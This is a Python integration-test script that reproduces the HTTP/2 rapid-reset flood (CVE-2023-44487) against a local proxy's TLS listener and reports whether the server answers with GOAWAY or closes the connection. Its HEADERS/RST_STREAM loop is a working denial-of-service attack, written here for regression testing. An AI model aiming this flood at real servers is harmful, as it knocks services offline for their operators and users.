"""The HTTP/2 rapid-reset flood of CVE-2023-44487, against rollgate proxy's TLS listener
(tests/it/tls.rs): on one connection, open a stream (HEADERS) and cancel it (RST_STREAM) again
and again without waiting, as the attack does, then say what the server did.

Usage: python h2_rapid_reset.py HOST PORT CA_FILE STREAMS
Prints one JSON line: {"sent": N, "goaway": error code or null, "closed": bool}.
Uses the `h2` library (python-hyper, what httpx[http2] is built on) to write the frames.
"""

import json
import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def goaway_in(conn, data):
    """The error code of a GOAWAY among the frames in `data`, or None."""
    for event in conn.receive_data(data):
        if isinstance(event, h2.events.ConnectionTerminated):
            return int(event.error_code)
    return None


def main():
    host, port, ca_file, streams = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    context = ssl.create_default_context(cafile=ca_file)
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    tls = context.wrap_socket(raw, server_hostname=host)
    assert tls.selected_alpn_protocol() == "h2", tls.selected_alpn_protocol()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    tls.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":path", "/"), (":scheme", "https"), (":authority", host)]
    sent = 0
    goaway = None
    closed = False
    tls.settimeout(0.0)
    try:
        for _ in range(streams):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers, end_stream=True)
            conn.reset_stream(stream)
            tls.sendall(conn.data_to_send())
            sent += 1
            # Read whatever came back, without waiting.
            try:
                data = tls.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            if not data:
                closed = True
                break
            goaway = goaway_in(conn, data)
            if goaway is not None:
                break
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, h2.exceptions.ProtocolError):
        closed = True
    if goaway is None and not closed:
        # Whatever the server says after the last frame.
        tls.settimeout(5)
        try:
            while True:
                data = tls.recv(65536)
                if not data:
                    closed = True
                    break
                goaway = goaway_in(conn, data)
                if goaway is not None:
                    break
        except (socket.timeout, ConnectionResetError, ssl.SSLError, h2.exceptions.ProtocolError):
            pass
    print(json.dumps({"sent": sent, "goaway": goaway, "closed": closed}))


if __name__ == "__main__":
    main()
